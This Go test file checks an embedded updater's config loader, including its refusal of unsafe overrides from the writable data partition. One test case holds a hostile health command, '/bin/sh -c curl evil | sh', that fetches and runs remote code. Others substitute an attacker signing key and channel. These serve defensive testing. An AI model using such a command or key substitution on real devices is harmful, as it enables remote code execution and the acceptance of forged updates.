package config

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestLoadAndOverride(t *testing.T) {
	dir := t.TempDir()
	img, over := filepath.Join(dir, "updater.yaml"), filepath.Join(dir, "override.yaml")
	os.WriteFile(img, []byte("server: http://10.0.2.100:8080\nchannel: stable\nchannels: [beta]\nboard: qemu\nimage: demo\nbuilt: 1796083200\nkeys: [RWSkey]\nhealth:\n  units: [demo-hello.service]\n"), 0o644)
	c, err := Load(img, over)
	if err != nil {
		t.Fatal(err)
	}
	if c.Poll != 15*time.Minute || c.Health.Deadline != 5*time.Minute || c.Health.Units[0] != "demo-hello.service" {
		t.Errorf("defaults: %+v", c)
	}
	os.WriteFile(over, []byte("channel: beta\npoll: 2m\n"), 0o644)
	c, err = Load(img, over)
	if err != nil || c.Channel != "beta" || c.Poll != 2*time.Minute || c.Server != "http://10.0.2.100:8080" || len(c.Health.Units) != 1 {
		t.Errorf("override: %+v %v", c, err)
	}
	for name, body := range map[string]string{
		"unknown field": "channel: beta\nchanel: x\n",
		"short poll":    "poll: 5s\n",
		// The data partition is writable by whoever has a shell or the
		// card: it may not change what the device trusts or runs as root.
		"keys":                "keys: [RWSattacker]\n",
		"health command":      "health:\n  commands: [[/bin/sh, -c, 'curl evil | sh']]\n",
		"channel not allowed": "channel: attacker\n",
		"not yaml":            "channel: [\n",
	} {
		os.WriteFile(over, []byte(body), 0o644)
		if _, err := Load(img, over); err == nil {
			t.Errorf("%s: accepted", name)
		} else {
			t.Logf("%s: %v", name, err)
		}
	}
	os.WriteFile(img, []byte("server: http://x\nchannel: s\nboard: qemu\nimage: demo\nbuilt: 1796083200\n"), 0o644)
	os.Remove(over)
	if _, err := Load(img, over); err == nil || !strings.Contains(err.Error(), "no trusted keys") {
		t.Errorf("no keys: %v", err)
	}
}

// TestImageConfigNeedsImageAndBuilt: an image's configuration without
// image: would skip the image check, without built: a Pi at 1970 would
// take an expired document; the build always writes both, so a file
// without them is refused.
func TestImageConfigNeedsImageAndBuilt(t *testing.T) {
	dir := t.TempDir()
	img := filepath.Join(dir, "updater.yaml")
	full := "server: http://x\nchannel: s\nboard: qemu\nkeys: [RWSkey]\nimage: demo\nbuilt: 1796083200\n"
	for name, body := range map[string]string{
		"no image": strings.Replace(full, "image: demo\n", "", 1),
		"no built": strings.Replace(full, "built: 1796083200\n", "", 1),
		"built 0":  strings.Replace(full, "built: 1796083200", "built: 0", 1),
	} {
		os.WriteFile(img, []byte(body), 0o644)
		if _, err := Load(img, filepath.Join(dir, "none")); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
	os.WriteFile(img, []byte(full), 0o644)
	if _, err := Load(img, filepath.Join(dir, "none")); err != nil {
		t.Errorf("a full image configuration: %v", err)
	}
}

// TestImageConfigOutsideOverlays: the image's configuration holds the
// keys, the revoked key IDs and the health commands run as root: it must
// live where the data partition cannot shadow it. The initramfs init
// puts overlays with an upper layer on /data over /etc and /var.
func TestImageConfigOutsideOverlays(t *testing.T) {
	for _, d := range []string{"/etc/", "/var/", "/data/"} {
		if strings.HasPrefix(ImagePath, d) {
			t.Errorf("ImagePath %s is under %s, which the data partition can shadow", ImagePath, d)
		}
	}
}
